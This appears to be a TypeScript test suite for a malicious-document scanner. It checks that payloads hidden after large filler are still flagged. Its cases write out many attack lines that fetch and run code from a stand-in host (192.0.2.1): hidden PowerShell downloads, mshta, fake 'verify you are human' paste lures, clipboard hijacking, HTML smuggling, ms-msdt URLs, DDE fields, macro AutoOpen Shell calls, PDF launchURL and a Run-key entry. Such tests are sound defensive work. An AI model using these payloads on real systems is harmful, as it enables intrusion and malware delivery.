/** A threat counts however much precedes it: limits end in a refusal, not in a clean document. */

import assert from 'node:assert/strict'
import { suite, test } from 'node:test'
import { useInspector } from './testing/inspector.ts'
import { docx, pdf } from './testing/samples.ts'
import { compiledLiteral, macroDocument, writeVba } from './testing/vba-writer.ts'
import { writeXlm } from './testing/xlm-writer.ts'
import { writeZip } from './testing/zip-writer.ts'

const { inspect } = useInspector()
const packed = (name: string, data: string): Buffer => writeZip([{ name, data }])
const RUN = 'new ActiveXObject("WScript.Shell").Run("powershell -w hidden iwr http://192.0.2.1/a")'
const COMMAND = 'powershell -w hidden -c "iwr http://192.0.2.1/a -OutFile a.exe"'
const COPY = `navigator.clipboard.writeText('mshta http://192.0.2.1/a.hta')`
const page = (head: string, script: string): Buffer =>
  Buffer.from(`<html><body>${head}<script>${script}</script></body></html>`)
const times = (count: number, text: (i: number) => string): string =>
  Array.from({ length: count }, (_, i) => text(i)).join('')
const script = (source: string): Buffer =>
  pdf(['<< /Type /Catalog /OpenAction 2 0 R >>', `<< /S /JavaScript /JS (${source.replace(/[\\()]/g, '\\$&')}) >>`])
const SMUGGLE = `var b=new Blob([Uint8Array.from(atob(p),c=>c.charCodeAt(0))]);var a=document.createElement('a');a.href=URL.createObjectURL(b);a.download='a.zip';a.click()`
const ZIP = packed('a.exe', `MZ${'x'.repeat(2000)}`).toString('base64')
const macro = (body: string, rest = ''): Buffer => macroDocument(`Sub AutoOpen()\r\n${body}\r\nEnd Sub\r\n${rest}`)
const BUSY = 'var n=0;for(var i=0;i<400000;i++){n=n+i;}'
/** Functions that call each other until nothing is left of what a script may take. */
const BUSY_CALLS = `${times(9, (i) => `function b${i}(x){b${i + 1}(x);b${i + 1}(x);b${i + 1}(x);b${i + 1}(x);b${i + 1}(x)}`)}function b9(x){y=x}b0(z);`
/** An address in parts, and as a whole, that a script decodes. */
const TOOL = 'ms-msdt:/id PCWDiagnostic /param "$(calc).exe"'
const CODES = [...TOOL].map((letter) => letter.charCodeAt(0) + 1)
const DECODED = `atob('${Buffer.from(TOOL).toString('base64')}')`
const BUSY_BASIC = 'For i = 1 To 60000\r\nFor j = 1 To 60\r\nx = x + 1\r\nNext\r\nNext\r\n'

suite('after much else', () => {
  const cases: [string, Buffer][] = [
    ['a formula', Buffer.from(`${'-1,-2,-3\n'.repeat(20_000)}=cmd|' /C calc'!A0\n`)],
    ['a value of the registry', packed('a.reg', registry('"a"="b"\r\n'.repeat(20_000)))],
    ['an attachment', Buffer.from(mail(Array.from({ length: 1_500 }, (_, i) => `a${i}.txt`).concat('invoice.js')))],
    ['a script', packed('a.js', `${`// ${'x'.repeat(97)}\n`.repeat(20_000)}${RUN}\n`)],
    [
      'a script between',
      packed('a.js', `${`// ${'x'.repeat(97)}\n`.repeat(10_000)}${RUN}\n${`// ${'x'.repeat(97)}\n`.repeat(10_000)}`),
    ],
    ['a script after calls', packed('a.js', `${times(6_000, (i) => `f(${i});`)}${RUN}\n`)],
    ['a script after loops', packed('a.js', `${BUSY.repeat(5)}function g(){${RUN}}\ng()\n`)],
    ['a script after many calls', packed('a.js', `${BUSY_CALLS}${RUN}`)],
    [
      'an object by another name after many calls',
      packed(
        'a.js',
        `${BUSY_CALLS}new this["Active"+"XObject"]("WScript.Shell")["R"+"un"]("powershell -w hidden iwr http://192.0.2.1/a")`,
      ),
    ],
    ['a copied text after many calls', page('<p>a</p>', `${BUSY_CALLS}${COPY}`)],
    [
      'an address after many calls',
      page(
        '<p>a</p>',
        `${BUSY_CALLS}location.href=atob('${Buffer.from('ms-msdt:/id PCWDiagnostic /param "$(calc).exe"').toString('base64')}')`,
      ),
    ],
    ['a file after many calls', page('<p>a</p>', `var p='${ZIP}';${BUSY_CALLS}${SMUGGLE}`)],
    [
      'an address that the last of many calls opens',
      page('<p>a</p>', `var n=0;function f(x){n++;if(n==300){location=${DECODED}}else f(x)}f(1)`),
    ],
    [
      'an address that the last of many calls on something unknown opens',
      page('<p>a</p>', `var n=0;function f(x){n++;if(n==300){location=${DECODED}}else f(x)}f(window.q)`),
    ],
    [
      'an object that the last of many calls creates',
      packed(
        'a.js',
        `var n=0;function f(x){n++;if(n==300){new this["Active"+"XObject"]("WScript.Shell")["R"+"un"]("powershell -w hidden iwr http://192.0.2.1/a")}else f(x)}f(1)`,
      ),
    ],
    [
      'an address that many calls within each other write',
      page(
        '<p>a</p>',
        `var s='',d=[${times(400, () => '1,')}${CODES}];function f(i){if(d[i]>1)s+=String.fromCharCode(d[i]-1);if(i<d.length)f(i+1)}f(0);location=s`,
      ),
    ],
    [
      'an address that calls write after many calls',
      page(
        '<p>a</p>',
        `${BUSY_CALLS}var s='';function a(c){s+=String.fromCharCode(c-1)}${CODES.map((code) => `a(${code});`).join('')}location=s`,
      ),
    ],
    [
      'an address that a second call writes after many calls',
      page(
        '<p>a</p>',
        `${BUSY_CALLS}var s='https://a.example/',k=0;function a(){k++;if(k>1)s=${DECODED}}a();a();location=s`,
      ),
    ],
    [
      'an address that a second call opens after many calls',
      page('<p>a</p>', `${BUSY_CALLS}function a(c){location=c}a('https://a.example/');a(${DECODED})`),
    ],
    [
      'an address that a function of the page opens after many calls',
      page('<p>a</p>', `${BUSY_CALLS}function a(c){location.replace(c)}a('https://a.example/');a(${DECODED})`),
    ],
    ['a script of a PDF after many calls', script(`${BUSY_CALLS}app.launchURL("http://192.0.2.1/a.exe")`)],
    [
      'a built script',
      packed(
        'a.js',
        `${times(150, (i) => `eval("a${i}");`)}var w=WScript;eval("alert"+"("+String.fromCharCode(49)+")")`,
      ),
    ],
    [
      'a Visual Basic script',
      packed(
        'a.vbs',
        `${`' ${'x'.repeat(97)}\n`.repeat(21_000)}CreateObject("WScript.Shell").Run "powershell -w hidden iwr http://192.0.2.1/a"\n`,
      ),
    ],
    [
      'a Visual Basic text',
      packed(
        'a.vbs',
        `${times(30, (i) => `Execute "a=${i}"\n`)}Execute "Create" & "Object(""WScript.Shell"").Run ""powershell -w hidden iwr http://192.0.2.1/a"""\n`,
      ),
    ],
    [
      'a Visual Basic call',
      packed(
        'a.vbs',
        `Set s = CreateObject("WScript.Shell")\n${times(2_500, (i) => `s.RegRead "a${i}"\n`)}s.Run "powershell -w hidden iwr http://192.0.2.1/a"\n`,
      ),
    ],
    ['a batch file', packed('a.bat', `@echo off\r\n${'rem a\r\n'.repeat(25_000)}mshta http://192.0.2.1/a.hta\r\n`)],
    [
      'a batch command',
      packed('a.bat', `@echo off\r\ncmd /c echo ${'x'.repeat(3_000)} & mshta http://192.0.2.1/a.hta\r\n`),
    ],
    ['a long command', packed('a.ps1', `$a='${'x'.repeat(40_000)}'; mshta http://192.0.2.1/a.hta\r\n`)],
    [
      'a script element',
      packed('a.hta', `<hta:application>${'<script>a=1</script>'.repeat(500)}<script>${RUN}</script>`),
    ],
    ['a tag', page('<b>a</b>'.repeat(60_000), COPY)],
    [
      'an attribute',
      Buffer.from(
        `<svg xmlns="http://www.w3.org/2000/svg" ${times(100, (i) => `a${i}="1" `)}onload="location.href=atob('aHR0cDovL2EuZXhhbXBsZS8=')"></svg>`,
      ),
    ],
    [
      'an instruction',
      page(
        `<p>${'word '.repeat(20_000)}</p><p>Verify you are human: press Windows + R, then Ctrl + V: mshta http://192.0.2.1/a</p>`,
        'a=1',
      ),
    ],
    [
      'an instruction of a script',
      page(
        '<p>a</p>',
        `${times(500, () => `f('${'word '.repeat(40)}');`)}f('Verify you are human: press Windows + R');f('mshta http://192.0.2.1/a');${COPY}`,
      ),
    ],
    ['a copied text', page('<p>a</p>', `${times(3_000, (i) => `f('ordinary text ${i}');`)}${COPY}`)],
    [
      'a copied value',
      page(
        times(3_000, (i) => `<input value="ordinary text ${i}">`) +
          `<input id="c" value="mshta http://192.0.2.1/a.hta">`,
        `document.getElementById('c').select();document.execCommand('copy')`,
      ),
    ],
    [
      'an element',
      page(
        `${times(80, (i) => `<p id="e${i}">${'a b '.repeat(40)}</p>`)}<p id="z">${ZIP}</p>`,
        `var p=document.getElementById('z').textContent;${SMUGGLE}`,
      ),
    ],
    [
      'a part of a file',
      page(
        '',
        `var p='${ZIP}';var k=[];for(var i=0;i<p.length;i+=4)k.push(atob(p.substr(i,4)));var a=document.createElement('a');a.href=URL.createObjectURL(new Blob(k));a.download='a.zip';a.click()`,
      ),
    ],
    ['a script of a page', page('<p>a</p>', `${'/*aaaaaaaaaa*/'.repeat(320_000)}${COPY}`)],
    ['a call of a page', page('<p>a</p>', `${times(6_000, (i) => `f(${i});`)}${COPY}`)],
    [
      'a call of a page after assignments',
      page('<p>a</p>', `${times(6_000, (i) => `window.a${i}=${i};`)}location.href=atob('aHR0cDovL2EuZXhhbXBsZS8=')`),
    ],
    [
      'a name of a drawing',
      Buffer.from(
        `<svg xmlns="http://www.w3.org/2000/svg"><script>${times(25_000, (i) => `var a${i};`)}fetch('//a.example/')</script></svg>`,
      ),
    ],
    ['a stored command', stored(`<sst>${'<si><t>1</t></si>'.repeat(25_000)}<si><t>${COMMAND}</t></si></sst>`)],
    [
      'a stored command in a large part',
      stored(`<sst><si><x>${'1'.repeat(5_000_000)}</x></si><si><t>${COMMAND}</t></si></sst>`),
    ],
    [
      'stored pieces',
      stored(
        `<sst>${`<si><t>${'words of a cell '.repeat(20)}</t></si>`.repeat(200)}${[...COMMAND.matchAll(/.{1,12}/g)].map(([p]) => `<si><t>${p}</t></si>`).join('')}</sst>`,
      ),
    ],
    [
      'a stored text of a form',
      macroDocument('Sub AutoOpen()\r\nShell UserForm1.Tag\r\nEnd Sub\r\n', {
        streams: { 'UserForm1/o': Buffer.from(`${times(3_000, (i) => `ordinary ${i}\0\0`)}${COMMAND}\0`) },
        storages: ['UserForm1'],
      }),
    ],
    [
      'a control',
      docx({
        'word/activeX/activeX1.xml': `<ax:ocx><!--${' '.repeat(1_200_000)}--><x ax:classid="{D27CDB6E-AE6D-11CF-96B8-444553540000}"/></ax:ocx>`,
      }),
    ],
    [
      'a compiled text',
      macroDocument('Sub AutoOpen()\r\nEnd Sub\r\n', {
        compiled: Buffer.concat([
          ...Array.from({ length: 150 }, (_, i) => compiledLiteral(`harmless text ${i}`)),
          compiledLiteral(COMMAND),
          Buffer.alloc(900),
        ]),
      }),
    ],
    [
      'a module',
      macroDocument('Sub AutoOpen()\r\nShell "powershell -w hidden iwr http://192.0.2.1/a"\r\nEnd Sub\r\n', {
        compiled: Buffer.concat([
          Buffer.from('01'.repeat(100), 'hex'),
          Buffer.from('01 03b0 00 6161'.replaceAll(' ', '').repeat(100), 'hex'),
        ]),
        declaredOffset: 0,
      }),
    ],
    [
      'a nested expression',
      macro(`Shell ${'('.repeat(70)}"powershell -w hidden iwr http://192.0.2.1/a"${')'.repeat(70)}`),
    ],
    ['a chain of members', macro(`Shell "powershell -w hidden iwr http://192.0.2.1/a" & a${'.b'.repeat(120)}`)],
    [
      'nested blocks',
      macro(
        `${'If 1 Then\r\n'.repeat(70)}Shell "powershell -w hidden iwr http://192.0.2.1/a"\r\n${'End If\r\n'.repeat(70)}`,
      ),
    ],
    [
      'nested procedures',
      macro(
        'A0',
        `${times(40, (i) => `Sub A${i}()\r\nA${i + 1}\r\nEnd Sub\r\n`)}Sub A40()\r\nShell "powershell -w hidden iwr http://192.0.2.1/a"\r\nEnd Sub\r\n`,
      ),
    ],
    ['nested texts of a script', packed('a.vbs', `Execute ${nestedExecute(6)}\r\n`)],
    ['nested code', script(`${'['.repeat(400)}app.launchURL("http://192.0.2.1/a.exe")${']'.repeat(400)}`)],
    [
      'nested functions',
      script(
        `${times(40, (i) => `function a${i}(x){a${i + 1}(x+"")}`)}function a40(x){app.launchURL(x)}a0("http://192.0.2.1/a.exe")`,
      ),
    ],
    [
      'a macro',
      macroDocument(
        `Sub AutoOpen()\r\n${BUSY_BASIC}${BUSY_BASIC}Shell "powershell -w hidden iwr http://192.0.2.1/a"\r\nEnd Sub\r\n`,
      ),
    ],
    [
      'a procedure',
      macroDocument(
        `${times(3_000, (i) => `Sub A${i}()\r\nx = ${i}\r\nEnd Sub\r\n`)}Sub AutoOpen()\r\nShell "powershell -w hidden iwr http://192.0.2.1/a"\r\nEnd Sub\r\n`,
      ),
    ],
    [
      'a long macro',
      macroDocument(
        `${`' ${'x'.repeat(97)}\r\n`.repeat(21_000)}Sub AutoOpen()\r\nShell "powershell -w hidden iwr http://192.0.2.1/a"\r\nEnd Sub\r\n`,
      ),
    ],
    [
      'a cell of a macro sheet',
      writeXlm({ formulas: [...Array.from({ length: 6_000 }, () => 'SET.VALUE(B1,1)'), 'EXEC("calc.exe")'] }),
    ],
    [
      'a call of a macro sheet',
      writeXlm({ formulas: [...Array.from({ length: 3_000 }, (_, i) => `FOPEN("a${i}")`), 'EXEC("calc.exe")'] }),
    ],
    [
      'a name of a macro sheet',
      writeXlm({
        formulas: ['EXEC("calc.exe")'],
        names: [...Array.from({ length: 5_000 }, (_, i) => `a${i}`), 'Auto_Open'],
      }),
    ],
    [
      'a text of an annotation',
      pdf([
        '<< /Type /Catalog >>',
        ...Array.from({ length: 21_000 }, () => '<< /T (a) >>'),
        '<< /Type /Annot /T (<img src=x onerror=alert\\(1\\)>) >>',
      ]),
    ],
    [
      'markup in an annotation',
      pdf(['<< /Type /Catalog >>', `<< /Type /Annot /T (${'a'.repeat(25_000)}<img src=x onerror=alert\\(1\\)>) >>`]),
    ],
    ['a script of a PDF', script(`${times(6_000, (i) => `f(${i});`)}app.launchURL("http://192.0.2.1/a.exe")`)],
    ['a built script of a PDF', script(`${times(150, (i) => `eval("a${i}");`)}eval("al"+"ert(1)");`)],
    [
      'machine code',
      script(`var a=unescape("${'%u0041%u0042'.repeat(12_000)}${'%u9090%u9090%ufce8%u0089'.repeat(20)}")`),
    ],
    [
      'a field with a script',
      pdf([
        '<< /Type /Catalog /OpenAction << /S /JavaScript /JS (eval\\(this.getField\\("z"\\).value\\)) >> >>',
        ...Array.from({ length: 11_000 }, (_, i) => `<< /T (a${i}) /V (1) >>`),
        '<< /T (z) /V (app.launchURL\\("http://192.0.2.1/a.exe"\\)) >>',
      ]),
    ],
    [
      'a name of a tree',
      pdf([
        '<< /Type /Catalog /Names << /JavaScript 2 0 R >> >>',
        ...Array.from({ length: 60 }, (_, i) => `<< /Kids [${i + 3} 0 R] >>`),
        '<< /Names [(a) << /S /JavaScript /JS (app.launchURL\\("http://192.0.2.1/a.exe"\\)) >>] >>',
      ]),
    ],
    ['a font matrix', font(`${'% a\n'.repeat(80_000)}/FontMatrix [1 2 3 4 5 (alert\\(1\\))] def`)],
    [
      'a page in a PDF',
      Buffer.concat([
        pdf(['<< /Type /Catalog >>']).subarray(0, 9),
        Buffer.from(`<html>${'a '.repeat(2_500_000)}<script>${RUN}</script></html>\n`),
        pdf(['<< /Type /Catalog >>']).subarray(9),
      ]),
    ],
    [
      'a field of a document',
      docx({
        'word/document.xml': `<w:document><w:p><w:fldSimple w:instr="QUOTE ${'a '.repeat(3_000)}"/>${'<w:instrText>PAGE</w:instrText>'.repeat(3_000)}<w:fldSimple w:instr="DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot;"/></w:p></w:document>`,
      }),
    ],
  ]
  const suspicious = new Set(['a name of a drawing', 'a control', 'a text of an annotation', 'markup in an annotation'])
  for (const [name, bytes] of cases)
    test(name, () => {
      const worst = suspicious.has(name) ? 'suspicious' : 'malicious'
      const { findings, obstacle } = inspect(bytes)
      assert.ok(
        obstacle !== null || findings.some(({ severity }) => severity === worst),
        findings.map(({ id }) => id).join(' '),
      )
    })
})

function nestedExecute(count: number): string {
  const code =
    count === 0
      ? 'CreateObject("WScript.Shell").Run "powershell -w hidden iwr http://192.0.2.1/a"'
      : `Execute ${nestedExecute(count - 1)}`
  return `"${code.replaceAll('"', '""')}"`
}

function stored(xml: string): Buffer {
  const source = 'Attribute VB_Name = "Module1"\r\nSub AutoOpen()\r\nShell ActiveDocument.Variables("a")\r\nEnd Sub\r\n'
  return docx({ 'xl/sharedStrings.xml': xml, 'word/vbaProject.bin': writeVba({ Module1: source }) })
}

function font(program: string): Buffer {
  return pdf([
    '<< /Type /Catalog >>',
    `<< /Length1 ${program.length} /Length ${program.length} >>\nstream\n${program}\nendstream`,
  ])
}

function registry(lines: string): string {
  const key = '[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run]'
  return `Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\A]\r\n${lines}${key}\r\n"a"="powershell -w hidden -enc AAAA"\r\n`
}

function mail(names: readonly string[]): string {
  const parts = names.map(
    (name) =>
      `--b\r\nContent-Type: application/octet-stream; name="${name}"\r\nContent-Disposition: attachment; filename="${name}"\r\n\r\nx\r\n`,
  )
  return `From: a@example.com\r\nTo: b@example.com\r\nSubject: c\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n${parts.join('')}--b--\r\n`
}
